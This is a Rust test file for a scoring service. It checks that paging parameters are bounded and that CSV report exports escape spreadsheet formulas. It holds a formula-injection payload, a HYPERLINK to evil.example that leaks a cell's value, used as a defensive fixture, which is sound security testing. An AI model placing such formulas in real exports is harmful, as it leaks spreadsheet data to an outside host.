//! Hostile input at the scoring service's edge: bounded paging, unstorable filter text, a
//! report CSV that cannot run formulas; and what a scorecard notification carries.

use crate::helpers::*;
use reqwest::{Method, StatusCode};
use serde_json::json;

#[tokio::test]
async fn paging_and_filters_are_bounded_and_name_the_parameter() {
    let p = spawn_platform().await;
    let admin = p.admin().await;
    for (query, field) in [
        ("skip=9223372036854775808", "skip"),
        ("skip=18446744073709551615", "skip"),
        ("limit=-3", "limit"),
        ("position=%00", "position"),
        ("position=a%00b", "position"),
    ] {
        let res = p
            .scoring(
                Method::GET,
                &format!("/api/v1/rubrics?{query}"),
                &admin.access,
                None,
            )
            .await;
        let detail = assert_error(res, StatusCode::UNPROCESSABLE_ENTITY).await;
        assert!(detail.contains(field), "{query}: {detail}");
    }
    let res = p
        .scoring(
            Method::GET,
            &format!(
                "/api/v1/rubrics/{}?version=99999999999",
                uuid::Uuid::new_v4()
            ),
            &admin.access,
            None,
        )
        .await;
    let detail = assert_error(res, StatusCode::UNPROCESSABLE_ENTITY).await;
    assert!(detail.contains("version"), "{detail}");
}

#[tokio::test]
async fn the_report_csv_never_holds_a_live_formula() {
    let p = spawn_platform().await;
    let admin = p.admin().await;
    let (alice, alice_t) = p.user("agent", "Alice Agent").await;
    let evil = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    let res = p
        .scoring(
            Method::POST,
            "/api/v1/rubrics",
            &admin.access,
            Some(json!({"name": "Engineering", "criteria": [
                {"key": "coding", "name": evil, "description": "", "weight": 1.0},
                {"key": "comms", "name": "@SUM(1+1)", "description": "", "weight": 1.0},
                {"key": "design", "name": "-2+3", "description": "", "weight": 1.0}
            ]})),
        )
        .await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let rubric = id_of(&body(res).await);
    let grace = p.candidate(&admin.access, "Grace Hopper").await;
    let interview = p
        .interview(
            &admin.access,
            grace,
            &[alice],
            "2030-03-01T10:00:00Z",
            Some("start"),
        )
        .await;
    let res = p
        .submit(
            &alice_t.access,
            interview,
            rubric,
            json!({"coding": 4, "comms": 3, "design": 2}),
            "yes",
        )
        .await;
    assert_eq!(res.status(), StatusCode::CREATED);

    let res = p
        .scoring(
            Method::GET,
            &format!("/api/v1/candidates/{grace}/report?format=csv"),
            &admin.access,
            None,
        )
        .await;
    assert_eq!(res.status(), StatusCode::OK);
    let text = res.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let mut names = Vec::new();
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r']),
                "a live formula in {cell:?}"
            );
        }
        if &record[0] == "criterion" {
            names.push(record[2].to_owned());
        }
    }
    assert_eq!(
        names,
        [format!("'{evil}"), "'@SUM(1+1)".into(), "'-2+3".into()]
    );

    // The scheduler hears about it with where to go: the interview and the candidate.
    let note = test_support::take_message(
        &p.amqp_prefix,
        "notifications",
        "notification.scorecard_submitted",
        10,
    )
    .await;
    assert_eq!(note["interview_id"], interview.to_string(), "{note}");
    assert_eq!(note["candidate_id"], grace.to_string(), "{note}");
    assert_eq!(note["resource_type"], "scorecard", "{note}");
}
